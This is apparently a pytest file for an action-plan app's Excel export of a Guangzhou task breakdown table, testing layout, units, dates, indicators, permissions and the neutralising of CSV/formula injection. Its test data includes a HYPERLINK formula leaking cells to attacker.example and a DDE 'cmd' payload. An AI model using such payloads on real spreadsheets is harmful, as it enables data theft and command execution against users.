"""Exporting the task breakdown table: the layout an office uses (a row per
task and per measure, units joined with 、, real dates, a sheet of
indicators), the illustrative assignment said for what it is, and text that
a spreadsheet could take for a formula neutralised."""

from __future__ import annotations

import datetime as dt
from io import BytesIO
from pathlib import Path

import pytest
from django.core.exceptions import PermissionDenied
from openpyxl import load_workbook
from tests.plans.breakdown_support import (
    INDICATOR_COLUMN,
    TASK_COLUMN,
    english,
    exported,
    indicators_sheet,
    measure_key,
    row_of,
    task_key,
    tasks_sheet,
)
from tests.plans.views_support import GuangzhouSite, guangzhou_site, site

from actionplan.cli import main
from actionplan.plans.breakdown import export_breakdown, export_filename
from actionplan.plans.breakdown.layout import (
    FIRST_DATA_ROW,
    HEADER_EN_ROW,
    HEADER_ROW,
    SHEET_GUIDE,
    SHEET_INDICATORS,
    SHEET_TASKS,
    SHEET_UNITS,
)
from actionplan.plans.breakdown.values import neutralise, restore
from actionplan.plans.models import Indicator, Measure, Task, Unit

__all__ = ["english", "guangzhou_site", "site"]  # fixtures used by the tests below

pytestmark = pytest.mark.usefixtures("english")


def test_it_writes_the_two_sheets_then_the_guide_and_the_units(site: GuangzhouSite) -> None:
    workbook = exported(site.plan)
    assert workbook.sheetnames == [SHEET_TASKS, SHEET_INDICATORS, SHEET_GUIDE, SHEET_UNITS]


def test_the_headers_are_chinese_with_english_below_bold_and_frozen(site: GuangzhouSite) -> None:
    sheet = tasks_sheet(exported(site.plan))
    zh = [c.value for c in sheet[HEADER_ROW]]
    en = [c.value for c in sheet[HEADER_EN_ROW]]
    assert zh == [
        "序号",
        "重点任务",
        "具体措施",
        "牵头单位",
        "配合单位",
        "完成时限",
        "示例分工",
        "系统编号",
    ]
    assert en[:6] == ["No.", "Key task", "Measure", "Lead unit(s)", "Cooperating units", "Deadline"]
    assert all(cell.font.b for cell in sheet[HEADER_ROW])
    assert sheet.freeze_panes == f"B{FIRST_DATA_ROW}"
    assert sheet.auto_filter.ref.startswith(f"A{HEADER_EN_ROW}:H")
    assert sheet.column_dimensions["C"].width == 60
    assert sheet["C5"].alignment.wrap_text
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_EN_ROW}"
    indicators = indicators_sheet(exported(site.plan))
    assert [c.value for c in indicators[HEADER_ROW]] == [
        "序号",
        "指标",
        "单位",
        "基期值",
        "基期年",
        "目标值",
        "目标年",
        "比较",
        "牵头单位",
        "系统编号",
    ]


def test_the_title_row_names_the_plan_and_its_version(site: GuangzhouSite) -> None:
    workbook = exported(site.plan)
    title = tasks_sheet(workbook)["A1"].value
    assert title.startswith(site.plan.title)
    assert "任务分解表" in title
    assert "第1版" in title
    assert indicators_sheet(workbook)["A1"].value.startswith(site.plan.title)
    guide = workbook[SHEET_GUIDE]
    assert guide["B2"].value == site.plan.code


def test_there_is_a_row_for_every_task_then_one_for_each_of_its_measures(
    site: GuangzhouSite,
) -> None:
    sheet = tasks_sheet(exported(site.plan))
    tasks = list(Task.objects.current().filter(plan=site.plan).order_by("position"))
    measures = Measure.objects.current().filter(plan=site.plan)
    keys = [sheet.cell(row, 8).value for row in range(FIRST_DATA_ROW, sheet.max_row + 1)]
    assert len(keys) == len(tasks) + measures.count()
    first = tasks[0]
    expected = [task_key(first), *(measure_key(m) for m in first.measures.order_by("position"))]
    assert keys[: len(expected)] == expected
    row = FIRST_DATA_ROW
    assert sheet[f"A{row}"].value == "1"
    assert sheet[f"B{row}"].value == "全面推进高层次双向开放"
    assert sheet[f"C{row + 1}"].value.startswith("进一步扩大关键领域对外开放")
    assert sheet[f"A{row + 1}"].value == "1.1"
    assert sheet.row_dimensions[row + 1].outlineLevel == 1  # measures fold under the task


def test_several_units_are_joined_with_the_chinese_enumeration_comma(
    site: GuangzhouSite,
) -> None:
    sheet = tasks_sheet(exported(site.plan))
    row = row_of(sheet, task_key(Task.objects.get(plan=site.plan, number="1")))
    assert sheet[f"{TASK_COLUMN['leads']}{row}"].value == "市商务局"
    assert sheet[f"{TASK_COLUMN['cooperating']}{row}"].value == (
        "市发展改革委、市工业和信息化局、市科技局"
    )


def test_a_measure_shows_its_own_units(site: GuangzhouSite) -> None:
    measure = Measure.objects.get(plan=site.plan, responsibilities__unit__name_zh="市港务局")
    sheet = tasks_sheet(exported(site.plan))
    row = row_of(sheet, measure_key(measure))
    assert sheet[f"D{row}"].value == "市港务局"
    assert sheet[f"A{row}"].value == measure.number


def test_the_illustrative_assignment_is_marked_never_passed_off_as_the_plans(
    site: GuangzhouSite,
) -> None:
    sheet = tasks_sheet(exported(site.plan))
    assert sheet["A2"].value.startswith("示例分工 — illustrative assignment")
    row = row_of(sheet, task_key(Task.objects.get(plan=site.plan, number="1")))
    assert sheet[f"G{row}"].value == "示例分工"
    assert sheet[f"D{row}"].fill.fgColor.rgb.endswith("FFF1D6")
    # A measure without units of its own carries no mark.
    assert sheet[f"G{row + 1}"].value is None


def test_without_illustrative_assignments_the_note_says_how_to_fill_in(
    site: GuangzhouSite,
) -> None:
    from actionplan.plans.models import Responsibility

    Responsibility.objects.update(illustrative=False)
    sheet = tasks_sheet(exported(site.plan))
    assert "示例分工 —" not in sheet["A2"].value
    assert sheet["A2"].value.startswith("填写牵头单位")
    assert all(sheet.cell(row, 7).value is None for row in range(FIRST_DATA_ROW, sheet.max_row + 1))


def test_a_deadline_is_a_real_excel_date(site: GuangzhouSite) -> None:
    measure = Measure.objects.current().filter(plan=site.plan).first()
    assert measure is not None
    Measure.objects.filter(pk=measure.pk).update(deadline=dt.date(2019, 6, 30))
    sheet = tasks_sheet(exported(site.plan))
    cell = sheet[f"F{row_of(sheet, measure_key(measure))}"]
    assert cell.value == dt.datetime(2019, 6, 30)
    assert cell.is_date
    assert cell.number_format == 'yyyy"年"m"月"d"日"'


def test_the_indicator_sheet_has_the_airport_target_and_its_task(site: GuangzhouSite) -> None:
    sheet = indicators_sheet(exported(site.plan))
    row = row_of(sheet, "airport_passenger_throughput")
    cells = {name: sheet[f"{letter}{row}"].value for name, letter in INDICATOR_COLUMN.items()}
    assert cells == {
        "number": "18",
        "name": "白云国际机场旅客吞吐量",
        "unit": "人次",
        "baseline_value": None,
        "baseline_year": None,
        "target_value": 80_000_000,
        "target_year": 2020,
        "comparator": "≥",
        "lead": "市交通运输局",
        "key": "airport_passenger_throughput",
    }
    assert sheet[f"F{row}"].number_format == "#,##0"


def test_an_indicator_without_a_code_is_keyed_by_its_id(site: GuangzhouSite) -> None:
    Indicator.objects.filter(pk=site.airport.pk).update(code="")
    sheet = indicators_sheet(exported(site.plan))
    assert row_of(sheet, f"I{site.airport.pk}")


def test_units_and_comparators_have_drop_down_lists(site: GuangzhouSite) -> None:
    workbook = exported(site.plan)
    units = workbook[SHEET_UNITS]
    assert units["A3"].value == Unit.objects.order_by("name_zh").first().name_zh  # type: ignore[union-attr]
    lists = tasks_sheet(workbook).data_validations.dataValidation
    assert any(v.formula1.startswith("'单位名录'!$A$3") for v in lists)
    assert any("D5" in str(v.sqref) and "E5" in str(v.sqref) for v in lists)
    comparators = indicators_sheet(workbook).data_validations.dataValidation
    assert [v.formula1 for v in comparators] == ['"≥,＞,≤,＝,≈"']


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_could_be_a_formula_is_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text
    assert neutralise("市商务局") == "市商务局"


def test_a_task_title_starting_with_a_formula_is_saved_as_text(site: GuangzhouSite) -> None:
    title = '=HYPERLINK("http://attacker.example/","点击")'
    task = Task.objects.get(plan=site.plan, number="1")
    Task.objects.filter(pk=task.pk).update(title=title)
    Unit.objects.filter(name_zh="市商务局").update(name_zh="@市商务局")
    Indicator.objects.filter(pk=site.airport.pk).update(name="-白云国际机场旅客吞吐量")
    data = export_breakdown(None, site.plan)

    # Read as a spreadsheet would, formulas left as formulas.
    workbook = load_workbook(BytesIO(data), data_only=False)
    sheet = workbook[SHEET_TASKS]
    row = row_of(sheet, task_key(task))
    cell = sheet[f"B{row}"]
    assert cell.value == "'" + title
    assert cell.data_type == "s"
    assert sheet[f"D{row}"].value == "'@市商务局"
    assert sheet[f"D{row}"].data_type == "s"
    indicators = workbook[SHEET_INDICATORS]
    name = indicators[f"B{row_of(indicators, 'airport_passenger_throughput')}"]
    assert (name.value, name.data_type) == ("'-白云国际机场旅客吞吐量", "s")
    for sheet in workbook.worksheets:
        for row_cells in sheet.iter_rows():
            for any_cell in row_cells:
                assert any_cell.data_type != "f", any_cell.coordinate


def test_only_a_reader_of_plans_may_export(site: GuangzhouSite) -> None:
    assert export_breakdown(site.bob, site.plan).startswith(b"PK")
    with pytest.raises(PermissionDenied):
        export_breakdown(site.charlie, site.plan)


def test_the_command_writes_the_file(
    site: GuangzhouSite,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["breakdown", "export", site.plan.code]) == 0
    path = tmp_path / export_filename(site.plan)
    assert f"Wrote {path.name}" in capsys.readouterr().out
    assert load_workbook(path).sheetnames[0] == SHEET_TASKS
    out = tmp_path / "table.xlsx"
    assert main(["breakdown", "export", site.plan.code, "--out", str(out)]) == 0
    assert out.read_bytes().startswith(b"PK")


def test_the_command_refuses_an_unknown_plan(
    site: GuangzhouSite, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["breakdown", "export", "no-such-plan"]) == 2
    err = capsys.readouterr().err
    assert err == (
        f"actionplan breakdown export: no plan 'no-such-plan'; plans: {site.plan.code}\n"
    )


def test_the_command_will_not_write_into_a_missing_directory(
    site: GuangzhouSite, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "missing" / "table.xlsx"
    assert main(["breakdown", "export", site.plan.code, "--out", str(out)]) == 2
    assert "No such file or directory" in capsys.readouterr().err
